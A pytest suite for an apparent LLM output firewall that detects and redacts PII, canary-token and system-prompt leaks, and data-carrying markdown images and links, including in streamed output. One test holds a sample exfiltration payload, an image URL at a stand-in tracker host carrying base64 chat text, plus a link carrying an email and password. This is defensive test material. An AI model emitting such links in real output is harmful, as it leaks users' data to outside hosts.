from __future__ import annotations

import base64
import json
import re
from pathlib import Path

import pytest

from edgeprompt.firewall.output import SAFE_MESSAGE, OutputValidator
from edgeprompt.firewall.pii import detect, iban_ok, luhn_ok
from edgeprompt.firewall.stream import StreamGuard

SAMPLES = {
    "EMAIL_ADDRESS": "jane.doe+news@mail.example.co.uk",
    "PHONE_NUMBER": "+44 20 7946 0958",
    "CREDIT_CARD": "4111 1111 1111 1111",
    "IBAN_CODE": "DE89 3704 0044 0532 0130 00",
    "US_SSN": "078-05-1120",
    "IP_ADDRESS": "203.0.113.42",
    "API_KEY": "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "SECRET": "hunter2-very-secret",
}
CANARY = "ep-canary-0123456789abcdef"


@pytest.mark.parametrize("kind", sorted(SAMPLES))
def test_each_type_is_found_and_redaction_leaves_nothing(kind: str) -> None:
    value = SAMPLES[kind]
    text = f"Here you go: password = {value} ok" if kind == "SECRET" else f"Here you go: {value}. Anything else?"
    found = detect(text)
    assert [f.type for f in found] == [kind]
    redacted = OutputValidator().check(text).redacted_text
    assert f"[{kind}]" in redacted
    digits = re.sub(r"\W", "", value)
    for i in range(0, len(digits) - 3):  # no 4-character piece of the value survives
        assert digits[i : i + 4] not in re.sub(r"\W", "", redacted.replace(f"[{kind}]", "")), (kind, redacted)


def test_checksums() -> None:
    assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")
    assert iban_ok("GB82 WEST 1234 5698 7654 32") and not iban_ok("GB82 WEST 1234 5698 7654 33")


def test_invalid_numbers_are_not_cards_or_ibans() -> None:
    assert detect("card 4111 1111 1111 1112 and IBAN GB82 WEST 1234 5698 7654 33") == []


def test_near_misses_are_left_alone(data_rows) -> None:  # type: ignore[no-untyped-def]
    rows = data_rows("near_misses.jsonl")
    assert {r["kind"] for r in rows} >= {"order", "isbn", "uuid", "date", "version"}
    flagged = [(r["text"], [f.type for f in detect(r["text"])]) for r in rows if detect(r["text"])]
    assert flagged == []


@pytest.mark.parametrize("text", ["電話: ０９０-１２３４-５６７８", "phone ٠٢٠ ٧٩٤٦ ٠٩٥٨"])
def test_phones_in_other_scripts_digits_are_found(text: str) -> None:
    assert [f.type for f in detect(text)] == ["PHONE_NUMBER"]


def test_loopback_addresses_are_not_personal() -> None:
    assert detect("the server listens on 127.0.0.1:8080 and ::1") == []


@pytest.mark.parametrize(
    "leak",
    [
        f"The marker is {CANARY}.",
        "the marker: " + " ".join(CANARY),
        "encoded: " + base64.b64encode(CANARY.encode()).decode(),
    ],
)
def test_canary_leaks_are_blocked(leak: str) -> None:
    r = OutputValidator(canary=CANARY).check(leak)
    assert r.decision == "block" and r.redacted_text == SAFE_MESSAGE
    assert [f.type for f in r.findings] == ["CANARY_LEAK"]


def test_system_prompt_leak_is_blocked() -> None:
    system = "You are Acme's billing assistant. Never discuss refunds above 500 euros without a manager."
    v = OutputValidator(system_text=system)
    assert (
        v.check(
            "Sure. My instructions: you are Acme's billing assistant. Never discuss refunds above 500 "
            "euros without a manager."
        ).decision
        == "block"
    )
    assert v.check("Refunds are handled by the billing team.").decision == "allow"


def test_data_carrying_images_and_links_are_redacted() -> None:
    text = (
        "![status](https://tracker.example/p.png?d=U2VjcmV0IGNoYXQgaGlzdG9yeSBnb2VzIGhlcmU=) see "
        "[docs](https://docs.python.org/3/library/re.html) and https://x.example/c?u=jane%40example.com%20password%3Dhunter2"
    )
    r = OutputValidator().check(text)
    assert [f.type for f in r.findings] == ["MARKDOWN_IMAGE", "EXFIL_LINK"]
    assert "docs.python.org/3/library/re.html" in r.redacted_text and "tracker.example" not in r.redacted_text


def test_policy_per_type() -> None:
    v = OutputValidator({"EMAIL_ADDRESS": "allow", "CREDIT_CARD": "block"})
    assert v.check("mail a@example.com").decision == "allow"
    assert v.check("card 4111 1111 1111 1111").redacted_text == SAFE_MESSAGE


def test_json_schema_validation(tmp_path: Path) -> None:
    schema = {"type": "object", "required": ["name"], "properties": {"name": {"type": "string"}}}
    v = OutputValidator(schema=schema)
    assert v.check('```json\n{"name": "Ada"}\n```').decision == "allow"
    bad = v.check('{"age": 3}')
    assert bad.decision == "block" and bad.findings[0].type == "SCHEMA_INVALID"


def _stream(text: str, sizes: list[int], v: OutputValidator) -> tuple[list[str], StreamGuard]:
    g, out, i, k = StreamGuard(v), [], 0, 0
    while i < len(text):
        n = sizes[k % len(sizes)]
        out.append(g.feed(text[i : i + n]))
        i, k = i + n, k + 1
    out.append(g.finish())
    return out, g


@pytest.mark.parametrize("sizes", [[1], [2, 5], [3], [7, 1, 4], [50]])
def test_streamed_redaction_never_shows_a_value(sizes: list[int]) -> None:
    text = (
        "Contact jane.doe@example.com or +44 20 7946 0958. Card 4111 1111 1111 1111, IBAN "
        "DE89 3704 0044 0532 0130 00, key sk-proj-abcdefghijklmnopqrstuvwx1234. Done."
    )
    v = OutputValidator()
    pieces, g = _stream(text, sizes, v)
    shown = "".join(pieces)
    assert shown == v.check(text).redacted_text == g.result().redacted_text
    for p in ("jane.doe", "7946", "1111 1111", "3704", "abcdefghij"):
        assert all(p not in x for x in pieces) and p not in shown


def test_streamed_canary_stops_the_stream_before_it_shows() -> None:
    v = OutputValidator(canary=CANARY)
    pieces, g = _stream(f"Of course! The marker is {CANARY} and more text follows here.", [4], v)
    assert CANARY not in "".join(pieces) and "ep-can" not in "".join(pieces)
    assert g.result().decision == "block"


def test_check_output_cli_contract(cli) -> None:  # type: ignore[no-untyped-def]
    import io
    import sys

    lines = [
        json.dumps({"text": "mail jane@example.com, SSN 078-05-1120"}),
        json.dumps({"text": "all clear"}),
        "{not json",
    ]
    old = sys.stdin
    sys.stdin = io.StringIO("\n".join(lines) + "\n")
    try:
        code, out, _ = cli("firewall", "check-output", "-")
    finally:
        sys.stdin = old
    recs = [json.loads(x) for x in out.splitlines()]
    assert code == 2 and "error" in recs[2]
    assert recs[0]["decision"] == "flag" and recs[1]["decision"] == "allow"
    assert [f["type"] for f in recs[0]["findings"]] == ["EMAIL_ADDRESS", "US_SSN"]
    assert set(recs[0]["findings"][0]) == {"type", "start", "end"}
    assert recs[0]["redacted_text"] == "mail [EMAIL_ADDRESS], SSN [US_SSN]"


def test_a_found_value_is_redacted_wherever_it_is_repeated() -> None:
    from edgeprompt.firewall.output import OutputValidator

    # a short answer repeats the quoted secret without its label: the label found it once, both go
    text = "BlueFalcon-2291 [1]\n\nFrom your documents:\n- The guest Wi-Fi password is BlueFalcon-2291 [1]"
    result = OutputValidator().check(text)
    assert "BlueFalcon-2291" not in result.redacted_text and result.redacted_text.count("[SECRET]") == 2
    # whole tokens only: a longer value that contains the found one is not cut
    more = OutputValidator().check("The password is 90417733. Ticket 904177331 is closed.")
    assert "904177331" in more.redacted_text and "[SECRET]" in more.redacted_text
